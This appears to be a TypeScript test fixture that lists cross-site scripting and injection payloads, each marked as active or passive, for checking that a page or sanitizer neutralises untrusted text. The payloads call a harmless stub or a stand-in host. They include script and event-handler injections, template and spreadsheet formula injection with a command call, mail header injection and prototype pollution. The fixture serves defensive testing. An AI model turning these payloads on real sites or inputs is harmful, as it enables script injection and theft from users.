// Texts that have made pages run foreign scripts. Each tries to call `planted()` or to fetch something from a
// foreign host.

/** A host that does not exist; the browser does not look it up. */
const ELSEWHERE = '//planted.example';

export interface Payload {
  text: string;
  /** Whether it acts as soon as it is markup in a page, which the control must notice. */
  isActive: boolean;
}

const active = (text: string): Payload => ({ text, isActive: true });
const passive = (text: string): Payload => ({ text, isActive: false });

export const payloads: readonly Payload[] = [
  active('<script>planted()</script>'),
  active('</script><script>planted()</script><!--'),
  active('"><img src=x onerror=planted()>'),
  active("'><svg onload=planted()>"),
  active('</textarea></title></style><svg><script>planted()</script></svg>'),
  active(`<iframe srcdoc="<script>parent.planted()</script>"></iframe>`),
  passive('javascript:planted()//'),
  active(`<script src=${ELSEWHERE}/a.js></script>`),
  active(`<link rel=stylesheet href=${ELSEWHERE}/a.css><b>`),
  active('<math><mtext><img src=x onerror=planted()></mtext></math>'),
  passive('" autofocus onfocus="planted()" x="'),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload imitates a template
  passive("{{constructor.constructor('planted()')()}} ${planted()} #{planted()} <%= planted() %>"),
  passive('&lt;img src=x onerror=planted()&gt; &#60;script&#62;planted()&#60;/script&#62;'),
  passive('\\u003cscript\\u003eplanted()\\u003c/script\\u003e %3Cscript%3Eplanted()%3C/script%3E'),
  passive(`=HYPERLINK("http:${ELSEWHERE}","a") @SUM(1) +cmd|' /C calc'!A0`),
  active('\u202e\u2066<img src=x onerror=planted()>\u2069\u0007\ufeff'),
  active(`<img src="${ELSEWHERE}/a.png">`),
  active(`${'A'.repeat(120)}<img src=x onerror="planted()">`),
  // Would add a line to the header of a mail or to a saved record.
  passive('One\r\nBcc: planted@planted.example\r\n\r\nTwo\tThree'),
  active('{"__proto__":{"planted":1},"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=planted()>"}}'),
];
